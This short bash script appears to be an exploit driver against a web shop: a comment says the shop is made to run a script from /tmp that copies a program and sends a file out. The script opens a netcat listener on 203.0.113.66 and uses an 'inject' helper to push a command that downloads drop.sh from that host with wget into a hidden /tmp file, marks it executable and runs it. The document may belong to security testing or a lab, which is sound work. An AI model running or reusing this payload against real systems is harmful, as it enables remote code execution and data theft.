#!/bin/bash
# The shop is made to load a script into /tmp and run it; it copies a program under another name and sends a file out.
source "$(dirname "$0")/inject.sh"
timeout 30 nc -l 203.0.113.66 4447 >/dev/null &
inject 'wget -q -O /tmp/.session http://203.0.113.66/drop.sh; chmod +x /tmp/.session; /tmp/.session' >/dev/null
wait
